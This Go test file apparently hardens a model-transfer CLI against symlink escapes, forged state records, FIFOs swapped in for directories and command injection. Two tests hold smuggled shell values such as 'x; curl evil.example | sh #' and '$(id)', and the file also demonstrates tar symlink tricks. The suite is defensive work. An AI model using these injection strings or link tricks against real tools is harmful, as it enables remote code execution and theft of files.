package main

import (
	"archive/tar"
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/modeltransfer/transfer/model"
	"github.com/modeltransfer/transfer/registry"
	"github.com/opencontainers/go-digest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestH2NoModelMakesItsDirectoryOneOfBlobs(t *testing.T) {
	reg := newAnyRegistry(t)
	manifest, other := titled(reg.put("{}"), "manifest.json"), titled(reg.put("x"), "sha-1/sha-x")
	for name, models := range map[string][]registry.Manifest{
		"at once":        {reg.of(manifest, titled(reg.put("x"), "sha256-sums"))},
		"one after one":  {reg.of(manifest), reg.of(other)},
		"the other way":  {reg.of(other), reg.of(manifest)},
		"with a partial": {reg.of(manifest, titled(reg.put("x"), "sha-"+someHex+".partial"))},
	} {
		dir := filepath.Join(t.TempDir(), "model")
		for _, m := range models {
			must(t, "pull", reg.ref(m), dir)
		}
		assert.Equal(t, model.Files, model.FormOf(dir), name)
		must(t, "verify", dir)
	}
}

func TestH2NoModelMakesItsDirectoryOneOfOllama(t *testing.T) {
	reg := newAnyRegistry(t)
	named := func(title string) string { return titled(reg.put("{}"), title) }
	for name, models := range map[string][]registry.Manifest{
		"at once":       {reg.of(named("manifests/h/n/m/t"), named("blobs/x"))},
		"one after one": {reg.of(named("manifests/h/n/m/t")), reg.of(named("Blobs/x"), named("blobs/x"))},
		"the other way": {reg.of(named("blobs/x")), reg.of(named("manifests/h/n/m/t"))},
		"in an archive": {reg.of(named("blobs/x")), reg.of(strings.Replace(titled(reg.put(
			gzipped(t, map[string]string{"manifests/t": "{}"})), "manifests"), `"annotations":{`,
			`"annotations":{"`+unpackAnnotation+`":"true",`, 1))},
	} {
		dir := filepath.Join(t.TempDir(), "model")
		for i, m := range models {
			r := runWith(t, "pull", reg.ref(m), dir)
			assert.Equal(t, i == len(models)-1, r.code == exitFailed, "%s: %s", name, r.stderr)
		}
		assert.Equal(t, model.Files, model.FormOf(dir), name)
	}
	blobs := tree(t, map[string]string{"sha256-" + someHex: ""}) // a pull of blobs was interrupted
	r := runWith(t, "pull", "--into", "files", reg.ref(reg.of(named("manifest.json"))), blobs)
	assert.Contains(t, r.stderr, "and manifest.json would name them")
}

func TestH1LinksThatLeadOutByTheUsersOwnAreRefused(t *testing.T) {
	reg := newAnyRegistry(t)
	outside := tree(t, map[string]string{"secret": secret})
	for _, target := range []string{"../data/secret", "../data", "../file", "../data/nothing/x"} {
		var content bytes.Buffer
		w := tar.NewWriter(&content)
		header := &tar.Header{Name: "sub/l", Linkname: target, Typeflag: tar.TypeSymlink}
		require.NoError(t, w.WriteHeader(header))
		require.NoError(t, w.Close())
		layer := strings.Replace(titled(reg.put(content.String()), "sub"), `"annotations":{`,
			`"annotations":{"`+unpackAnnotation+`":"true",`, 1)
		dir := t.TempDir()
		link(t, outside, filepath.Join(dir, "data"))
		link(t, filepath.Join(outside, "secret"), filepath.Join(dir, "file"))
		r := runWith(t, "pull", reg.ref(reg.of(layer)), dir)
		assert.Equal(t, exitFailed, r.code, target)
		assert.Contains(t, r.stderr, "leads through a link that was there before")
		assert.NoFileExists(t, filepath.Join(dir, "sub", "l"))
	}
}

func TestH2PruneKeepsTheBlobsOfAManifestThatAnotherModelNamesAsALayer(t *testing.T) {
	reg := newAnyRegistry(t)
	honest := reg.model(map[string]string{"a": "honest a"})
	evil := reg.of(titled(descriptor{Digest: honest.Digest, Size: int64(len(honest.Data))}, "a"))
	dir := filepath.Join(t.TempDir(), "layout")
	must(t, "pull", "--into", "oci", reg.ref(evil), dir)
	index := reg.putManifest(indexOf(honest).Data, registry.MediaTypeIndex) // read after the evil one
	must(t, "pull", "--into", "oci", reg.ref(index), dir)
	must(t, "prune", dir)
	assert.FileExists(t, treePath(dir, model.OCILayout, digest.FromString("honest a")))
}

func TestH11PruneKnowsTheModelsOfOllamaThatAreLinks(t *testing.T) {
	reg := newAnyRegistry(t)
	honest := reg.model(map[string]string{"a": "honest a"})
	dir := filepath.Join(t.TempDir(), "models")
	ref := reg.url + "/me/model:" + digest.Digest(honest.Digest).Encoded()[:12]
	must(t, "pull", "--into", "ollama", ref, dir)
	var manifest string
	manifests := filepath.Join(dir, "manifests")
	require.NoError(t, filepath.WalkDir(manifests, func(p string, d fs.DirEntry, err error) error {
		if d.Type().IsRegular() {
			manifest = p
		}
		return err
	}))
	blob := treePath(dir, model.Ollama, digest.FromString("honest a"))
	elsewhere := filepath.Join(t.TempDir(), "elsewhere")
	for path := manifest; filepath.Base(path) != "manifests"; path = filepath.Dir(path) {
		require.NoError(t, os.Rename(path, elsewhere))
		link(t, elsewhere, path)
		r := runWith(t, "prune", dir)
		assert.FileExists(t, blob, path)
		if path != manifest {
			assert.Contains(t, r.stderr, "which models it has is not known")
			assert.Equal(t, exitFailed, runWith(t, "verify", dir).code)
		}
		require.NoError(t, os.Remove(path))
		require.NoError(t, os.Rename(elsewhere, path))
	}
	link(t, "nowhere", manifest+"-2")
	assert.Equal(t, exitFailed, runWith(t, "prune", dir).code)
}

func TestH8ARecordOfAnotherUserIsNotTrusted(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("only root can make a file of somebody else")
	}
	reg := newAnyRegistry(t)
	packed := strings.Replace(titled(reg.put(gzipped(t, map[string]string{"sub/a": "honest a"})), "sub"),
		`"annotations":{`, `"annotations":{"`+unpackAnnotation+`":"true",`, 1)
	for name, layer := range map[string]string{"a": titled(reg.put("honest a"), "a"), "sub/a": packed} {
		honest, dir := reg.of(layer), t.TempDir()
		must(t, "pull", reg.ref(honest), dir)
		file, record := filepath.Join(dir, name), filepath.Join(dir, stateDir, "record.json")
		require.NoError(t, os.WriteFile(file, []byte("evil!! a"), 0o600))
		info, err := os.Lstat(file)
		require.NoError(t, err)
		data, err := os.ReadFile(record)
		require.NoError(t, err)
		var r map[string]any
		require.NoError(t, json.Unmarshal(data, &r))
		seen := r["files"].(map[string]any)[name].(map[string]any)
		st := info.Sys().(*syscall.Stat_t)
		seen["time"], seen["changed"] = info.ModTime().UTC(), fmt.Sprintf("%d:%d", st.Ino, st.Ctim.Nano())
		if name != "a" {
			seen["digest"] = digest.FromString("evil!! a").String()
		}
		data, err = json.Marshal(r)
		require.NoError(t, err)
		require.NoError(t, os.WriteFile(record, data, 0o600))
		require.NoError(t, os.Chown(record, 12345, 12345))
		must(t, "pull", reg.ref(honest), dir)
		got, err := os.ReadFile(file)
		require.NoError(t, err)
		assert.Equal(t, "honest a", string(got))
	}
}

// A link of our own may lead to a pipe, as in a directory that somebody else has packed.
func TestH10APipeInThePlaceOfADirectoryHoldsNoCommand(t *testing.T) {
	reg := newAnyRegistry(t)
	honest := reg.ref(reg.model(map[string]string{"a": "honest a"}))
	for _, test := range []struct {
		form, place string
		commands    []string
	}{
		{"files", stateDir, []string{"verify", "prune", "push", "repair", "pull"}},
		{"oci", stateDir, []string{"prune", "repair", "pull"}},
		{"oci", "blobs", []string{"verify", "prune", "push", "repair", "pull"}},
		{"oci", "blobs/sha256", []string{"verify", "prune", "push", "repair", "pull"}},
		{"ollama", "blobs", []string{"verify", "prune", "push", "repair", "pull"}},
		{"ollama", "manifests", []string{"verify", "prune", "push", "repair", "pull"}},
	} {
		for _, command := range test.commands {
			dir := filepath.Join(t.TempDir(), "dir")
			must(t, "pull", "--into", test.form, honest, dir)
			place := filepath.Join(dir, filepath.FromSlash(test.place))
			pipe := filepath.Join(t.TempDir(), "pipe")
			require.NoError(t, os.RemoveAll(place))
			require.NoError(t, syscall.Mkfifo(pipe, 0o600))
			link(t, pipe, place)
			done := make(chan result, 1)
			go func() {
				done <- runWith(t, map[string][]string{
					"verify": {"verify", dir}, "repair": {"verify", "--from", honest, dir},
					"prune": {"prune", dir}, "push": {"push", dir, reg.url + "/pushed/m:v1"},
					"pull": {"pull", "--into", test.form, honest, dir},
				}[command]...)
			}()
			select {
			case <-done:
			case <-time.After(20 * time.Second):
				t.Fatalf("%s of %s with a pipe behind %s does not end", command, test.form, test.place)
			}
		}
	}
}

// Neither a repair nor a copy writes to where another user has led its directory.
func TestH8NothingIsWrittenThroughDirectoriesThatAreLinksOfAnotherUser(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("only root can make a link of somebody else")
	}
	reg := newAnyRegistry(t)
	honest := reg.ref(reg.model(map[string]string{"a": "honest a"}))
	foreign := func(name string) (victim string) {
		victim = t.TempDir()
		require.NoError(t, os.RemoveAll(name))
		link(t, victim, name)
		require.NoError(t, os.Lchown(name, 12345, 12345))
		return victim
	}
	empty := func(dir string, args ...string) {
		r := runWith(t, args...)
		assert.Equal(t, exitFailed, r.code, "%v: %s", args, r.stderr)
		entries, err := os.ReadDir(dir)
		require.NoError(t, err)
		assert.Empty(t, entries, "%v", args)
	}
	dir := filepath.Join(t.TempDir(), "models")
	must(t, "pull", "--into", "ollama", honest, dir)
	victim := foreign(filepath.Join(dir, "blobs"))
	empty(victim, "verify", "--from", honest, dir)
	empty(victim, "pull", "--into", "ollama", honest, dir)

	shared, target := t.TempDir(), refusing(t, startedServer(t), http.MethodPut)
	command := []string{"copy", "--dir", shared, honest, target + "/me/m:v1"}
	require.Equal(t, exitFailed, runWith(t, command...).code)
	entries, err := os.ReadDir(shared)
	require.NoError(t, err)
	require.Len(t, entries, 1)
	empty(foreign(filepath.Join(shared, entries[0].Name())), command...)
}

func TestH9NoCommandIsShownThatARecordHasMadeUp(t *testing.T) {
	reg := newAnyRegistry(t)
	for from, want := range map[string]string{
		"x; curl evil.example | sh #": "--from REF\n",
		"h.example/a/b$(id)":          "--from REF\n",
		"-x":                          "--from REF\n",
		"":                            "--from REF\n",
		"h.example/a/b:v1":            "--from h.example/a/b:v1\n",
	} {
		dir := t.TempDir()
		must(t, "pull", reg.ref(reg.model(map[string]string{"a": "honest a"})), dir)
		record := filepath.Join(dir, stateDir, "record.json")
		data, err := os.ReadFile(record)
		require.NoError(t, err)
		var r map[string]any
		require.NoError(t, json.Unmarshal(data, &r))
		r["reference"] = from
		data, err = json.Marshal(r)
		require.NoError(t, err)
		require.NoError(t, os.WriteFile(record, data, 0o600))
		require.NoError(t, os.Remove(filepath.Join(dir, "a")))
		assert.True(t, strings.HasSuffix(runWith(t, "verify", dir).stderr, want), from)
	}
}

// What a person is told to choose may be typed into a shell.
func TestH9NoCommandIsShownThatAnIndexHasMadeUp(t *testing.T) {
	reg := newAnyRegistry(t)
	var list []string
	for i, platform := range []string{"amd64; curl evil.example|sh #", "a evil.example", "$(evil.example)"} {
		m := reg.model(map[string]string{"a": fmt.Sprint(i)})
		list = append(list, strings.TrimSuffix(listed(m), "}")+
			fmt.Sprintf(`,"platform":{"os":"linux","architecture":%q}}`, platform))
	}
	index := reg.putManifest(fmt.Appendf(nil, `{"schemaVersion":2,"mediaType":%q,"manifests":[%s]}`,
		registry.MediaTypeIndex, strings.Join(list, ",")), registry.MediaTypeIndex)
	for _, args := range [][]string{
		{"pull", reg.ref(index), t.TempDir()}, {"inspect", "--platform", "a/b", reg.ref(index)},
	} {
		r := runWith(t, args...)
		assert.NotContains(t, r.stderr, "evil.example")
		one := strings.TrimPrefix(reg.url, "http://") + "/evil/model@sha256:"
		assert.Contains(t, r.stderr, "choose one by its digest, such as "+one)
	}
}

func TestH12ALinkedBlobIsHashedBeforeItIsSent(t *testing.T) {
	reg := newAnyRegistry(t)
	outside := tree(t, map[string]string{"secret": strings.Repeat(secret+"\n", 1<<20)})
	fake := digest.FromString("something else")
	m := registry.NewManifest(fmt.Appendf(nil,
		`{"schemaVersion":2,"mediaType":%q,"config":{"mediaType":"a/b","digest":%q,"size":%d},"layers":[]}`,
		registry.MediaTypeManifest, fake, (len(secret)+1)<<20), "")
	tag := digest.Digest(m.Digest).Encoded()
	for kind, files := range map[model.Form]map[string]string{
		model.Blobs:  {"manifest.json": string(m.Data)},
		model.Ollama: {"manifests/h/n/m/t": string(m.Data), "blobs/x": ""},
		model.OCILayout: {
			"oci-layout": `{"imageLayoutVersion":"1.0.0"}`, "index.json": string(indexOf(m).Data),
			"blobs/sha256/" + tag: string(m.Data),
		},
	} {
		dir := tree(t, files)
		link(t, filepath.Join(outside, "secret"), treePath(dir, kind, fake))
		r := runWith(t, "push", dir, reg.url+"/pushed/model:v1")
		assert.Equal(t, exitFailed, r.code, kind)
		assert.Contains(t, r.stderr, "is a link: its content does not match its digest")
		assert.False(t, reg.saw(secret), kind)
	}
}

func TestH1PruneRemovesNothingThatHasOnlyTheLooksOfABlob(t *testing.T) {
	reg := newAnyRegistry(t)
	dir := t.TempDir()
	must(t, "pull", "--into", "blobs", reg.ref(reg.model(map[string]string{"a": "honest a"})), dir)
	ours := []string{"", ".partial", ".partial.1", ".partial-abc2", ".journal", ".journal.3", ".tmp"}
	theirs := []string{".safetensors", ".txt", ".gguf", ".partial.txt", "0", strings.Repeat("0", 32)}
	for _, suffix := range append(append([]string{}, ours...), theirs...) {
		require.NoError(t, os.WriteFile(filepath.Join(dir, "sha256-"+someHex+suffix), nil, 0o600))
	}
	must(t, "prune", dir)
	for _, suffix := range ours {
		assert.NoFileExists(t, filepath.Join(dir, "sha256-"+someHex+suffix))
	}
	for _, suffix := range theirs {
		assert.FileExists(t, filepath.Join(dir, "sha256-"+someHex+suffix))
	}
}

func TestH2ARecordThatContradictsItselfIsNotRemembered(t *testing.T) {
	reg := newAnyRegistry(t)
	for field, value := range map[string]any{
		"manifest": string(reg.model(map[string]string{"b": "evil"}).Data), "digest": "sha256:" + someHex,
		"files": map[string]any{"../a": map[string]any{"dir": true}}, "archives": nil,
	} {
		dir := t.TempDir()
		must(t, "pull", reg.ref(reg.model(map[string]string{"a": "honest a"})), dir)
		record := filepath.Join(dir, stateDir, "record.json")
		data, err := os.ReadFile(record)
		require.NoError(t, err)
		var r map[string]any
		require.NoError(t, json.Unmarshal(data, &r))
		r[field] = value
		data, err = json.Marshal(r)
		require.NoError(t, err)
		require.NoError(t, os.WriteFile(record, data, 0o600))
		assert.Contains(t, runWith(t, "verify", dir).stderr, "was not made by pull", field)
	}
}

func TestH2WhatWaitsInTheStageIsHashed(t *testing.T) {
	reg := newAnyRegistry(t)
	honest := reg.model(map[string]string{"a": "honest a"})
	dg := digest.FromString("honest a")
	for form, path := range map[string]string{"files": "a", "oci": "blobs/sha256/" + dg.Encoded()} {
		dir := tree(t, map[string]string{stateDir + "/" + blobFile(dg.String()): "evil!! a"})
		must(t, "pull", "--into", form, reg.ref(honest), dir)
		got, err := os.ReadFile(filepath.Join(dir, path))
		require.NoError(t, err)
		assert.Equal(t, "honest a", string(got), form)
	}
}
